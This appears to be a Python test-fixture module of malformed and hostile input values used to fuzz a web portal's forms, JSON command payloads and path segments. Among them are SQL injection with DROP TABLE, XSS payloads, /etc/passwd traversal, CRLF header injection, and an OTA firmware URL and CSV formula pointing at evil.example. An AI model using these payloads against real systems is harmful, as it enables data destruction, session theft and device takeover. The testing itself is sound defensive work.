"""Nasty values, hand-written and generated from a fixed seed: the same cases on every run.

Strings may hold lone surrogates: the harness sends them as the invalid UTF-8 bytes a broken
client would send (forms), or as the JSON escape `\\ud800` that is valid JSON text (payloads).
"""

from __future__ import annotations

import json
import random

SEED = 10  # issue 10
KB = 1024
MB = 1024 * KB


def pick(options: list, n: int, k: int) -> list:
    """k of the options for the n-th value, in turn: every option is used as n goes on."""
    return [options[(n * k + i) % len(options)] for i in range(min(k, len(options)))]


# --- text: form fields, query values --------------------------------------------------------

ATOMS: list[tuple[str, str]] = [
    ("NUL", "\x00"),
    ("NUL inside", "a\x00b"),
    ("lone high surrogate", "\ud800"),
    ("lone low surrogate", "x\udfffy"),
    ("CRLF header injection", "a\r\nSet-Cookie: pwned=1"),
    ("bare CR", "a\rb"),
    ("tab and vertical tab", "\t\x0b\x0c"),
    ("ESC sequence", "\x1b[31mred\x1b[0m"),
    ("DEL and C1 controls", "\x7f\x85\x9f"),
    ("line and paragraph separators", "a\u2028b\u2029c"),
    ("dot-dot slash", "../../../etc/passwd"),
    ("encoded slash", "%2F..%2F..%2Fadmin"),
    ("encoded NUL", "%00"),
    ("broken percent", "%zz%"),
    ("backslash path", "..\\..\\windows"),
    ("bidi override", "abc\u202edcba\u202c"),
    ("RTL text", "שלום עולם مرحبا"),
    ("zero-width joiners", "a\u200b\u200c\u200d\ufeffb"),
    ("emoji with ZWJ", "👩\u200d👩\u200d👧\u200d👦🔥"),
    ("combining marks", "Z\u0351\u0352\u0353\u0354\u0355\u0356a\u0300\u0301"),
    ("noncharacters", "\ufffe\uffff\U0010ffff"),
    ("SQL injection", "'; DROP TABLE portal_auditevent; --"),
    ("SQL tautology", '" OR 1=1 --'),
    ("Django template", "{{ request.META }}{% debug %}"),
    ("template comment", "{# x #}{% load static %}"),
    ("Jinja/format", "${7*7}{0.__class__}%s%n"),
    ("HTML script", "<script>alert(1)</script>"),
    ("HTML attribute break", '"><img src=x onerror=alert(1)>'),
    ("javascript URL", "javascript:alert(document.cookie)"),
    ("htmx attribute", '<div hx-get="/logout/" hx-trigger="load"></div>'),
    ("CSV formula", '=HYPERLINK("http://evil.example","x")'),
    ("JSON text", '{"a": [1, 2]}'),
    ("NaN word", "NaN"),
    ("Infinity word", "-Infinity"),
    ("huge exponent", "1e999"),
    ("5,000 digits", "9" * 5000),
    ("negative zero", "-0"),
    ("spaces only", "   "),
    ("empty", ""),
]

LONG: list[tuple[str, str]] = [
    ("255 chars", "n" * 255),
    ("256 chars", "n" * 256),
    ("1,001 chars", "d" * 1001),
    ("100 KB", "x" * (100 * KB)),
    ("100 KB of emoji", "🔥" * (25 * KB)),
]

HUGE = ("4 MB", "y" * (4 * MB))


def generated_texts(count: int, seed: int = SEED) -> list[tuple[str, str]]:
    """Mixtures of 2 to 4 atoms with some plain text between them, from a fixed seed."""
    rng = random.Random(seed)
    out = []
    for n in range(count):
        picked = rng.sample(ATOMS, rng.randint(2, 4))
        glue = rng.choice(["", " ", "x", "Greenhouse "])
        out.append(
            (
                f"mix {n}: " + " + ".join(label for label, _ in picked),
                glue.join(value for _, value in picked),
            )
        )
    return out


def texts(*, long: bool = True, huge: bool = False, mixes: int = 8) -> list[tuple[str, str]]:
    values = [*ATOMS, *generated_texts(mixes)]
    if long:
        values += LONG
    if huge:
        values.append(HUGE)
    return values


# --- JSON text: the command and button payload fields ---------------------------------------


def _deep(levels: int, opener: str, closer: str, inner: str = "1") -> str:
    return opener * levels + inner + closer * levels


JSON_TEXTS: list[tuple[str, str]] = [
    ("NaN", '{"a": NaN}'),
    ("Infinity", '{"a": Infinity}'),
    ("-Infinity", '{"a": -Infinity}'),
    ("1e999", '{"a": 1e999}'),
    ("-1e999", '{"a": -1e999}'),
    ("5,000-digit integer", '{"a": ' + "9" * 5000 + "}"),
    ("4,301-digit negative integer", '{"a": -' + "1" * 4301 + "}"),
    ("tiny float", '{"a": 5e-324}'),
    ("negative zero", '{"a": -0.0}'),
    ("escaped NUL value", '{"a": "\\u0000"}'),
    ("escaped NUL key", '{"\\u0000": 1}'),
    ("lone surrogate value", '{"a": "\\ud800"}'),
    ("lone surrogate key", '{"\\udfff": 1}'),
    ("reversed surrogate pair", '{"a": "\\udc00\\ud800"}'),
    ("raw NUL in string", '{"a": "x\x00y"}'),
    ("raw control chars", '{"a": "\x01\x02\x1f"}'),
    ("deep arrays 10,000", '{"a": ' + _deep(10000, "[", "]") + "}"),
    ("deep objects 10,000", _deep(10000, '{"a":', "}")),
    ("deep objects 100", _deep(100, '{"a":', "}")),
    ("deep arrays 3,000 (under 8 KB)", '{"a": ' + _deep(3000, "[", "]") + "}"),
    ("deep objects 1,400 (under 8 KB)", _deep(1400, '{"a":', "}")),
    ("duplicate keys", '{"a": 1, "a": 2, "a": {"b": 3}}'),
    ("array, not object", "[1, 2, 3]"),
    ("string, not object", '"reboot"'),
    ("number, not object", "42"),
    ("null", "null"),
    ("true", "true"),
    ("empty object", "{}"),
    ("empty text", ""),
    ("spaces", "   \n\t"),
    ("huge array", '{"a": [' + ",".join(["0"] * 50000) + "]}"),
    ("100 KB string", '{"a": "' + "x" * (100 * KB) + '"}'),
    ("numbers as strings", '{"a": "1", "b": "1e999", "c": "NaN"}'),
    ("BOM first", '\ufeff{"a": 1}'),
    ("trailing garbage", '{"a": 1} trailing'),
    ("two documents", '{"a": 1}{"b": 2}'),
    ("single quotes", "{'a': 1}"),
    ("unquoted key", "{a: 1}"),
    ("hex number", '{"a": 0x10}'),
    ("leading zero", '{"a": 01}'),
    ("bad escape", '{"a": "\\x41"}'),
    ("unterminated", '{"a": "b'),
    ("comment", '{"a": 1 /* c */}'),
    ("builtin look-alike", '{"cmd": "reboot"}'),
    ("builtin look-alike ota", '{"action": "ota", "url": "http://evil.example/fw.bin"}'),
    ("proto pollution", '{"__proto__": {"admin": true}, "constructor": {"prototype": 1}}'),
    ("template in value", '{"a": "{{ request.user.password }}{% debug %}"}'),
    ("HTML in key", '{"<script>alert(1)</script>": "<img src=x onerror=alert(1)>"}'),
    ("emoji and bidi", '{"a": "🔥\u202eabc\u200b"}'),
    ("long key", '{"' + "k" * 5000 + '": 1}'),
    ("many keys", json.dumps({f"k{i}": i for i in range(2000)})),
]


# --- path segments: sent as written, so each is already percent-encoded ASCII --------------

SEGMENTS: list[tuple[str, str]] = [
    ("encoded NUL", "%00"),
    ("NUL after id", "abc%00"),
    ("encoded slash", "a%2Fb"),
    ("encoded slash to another endpoint", "x%2Freboot"),
    ("encoded dot-dot", "%2E%2E"),
    ("dot-dot slash encoded", "..%2F..%2F..%2Fv1%2Fuser%2Fdevices"),
    ("double-encoded slash", "a%252Fb"),
    ("encoded question mark", "a%3Fpage%3D2"),
    ("encoded hash", "a%23b"),
    ("encoded space", "a%20b"),
    ("encoded CRLF", "a%0D%0AX-Injected:%201"),
    ("semicolon", "a;b=c"),
    ("encoded backslash", "a%5C..%5Cb"),
    ("lone surrogate as UTF-8 bytes", "%ED%A0%80"),
    ("overlong slash", "%C0%AF"),
    ("invalid UTF-8", "%FF%FE"),
    ("broken percent", "%zz"),
    ("bare percent", "a%"),
    ("IIS-style %u", "%u002e%u002e"),
    ("emoji", "%F0%9F%94%A5"),
    ("bidi override", "abc%E2%80%AEdcba"),
    ("zero-width space", "a%E2%80%8Bb"),
    ("dot", "."),
    ("tilde", "~"),
    ("leading hyphen", "-abc"),
    ("underscore only", "_"),
    ("100 chars (longest valid)", "A" * 100),
    ("101 chars", "A" * 101),
    ("5,000 chars", "B" * 5000),
    ("HTML", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("template", "%7B%7B7*7%7D%7D"),
    ("SQL", "%27%20OR%201%3D1--"),
    ("unknown but valid uid", "espressif8266_NoSuchDevice01"),
    ("the other token's device", "@foreign"),
]

NUMBERS: list[tuple[str, str]] = [
    ("zero", "0"),
    ("18 digits (longest valid)", "9" * 18),
    ("19 digits", "9" * 19),
    ("4,301 digits", "1" * 4301),
    ("5,000 digits", "9" * 5000),
    ("leading zeros", "000000000000000000001"),
]


# --- query strings --------------------------------------------------------------------------


def query_values() -> list[tuple[str, str]]:
    """Values for any query parameter: every atom and some long ones."""
    return [*ATOMS, ("1,001 chars", "q" * 1001), ("100 KB", "q" * (100 * KB))]


NUMBER_WORDS = ["-1", "0", "1.5", "1e999", "NaN", "inf", "-inf", "9" * 5000, "0x10", "", " 2 "]
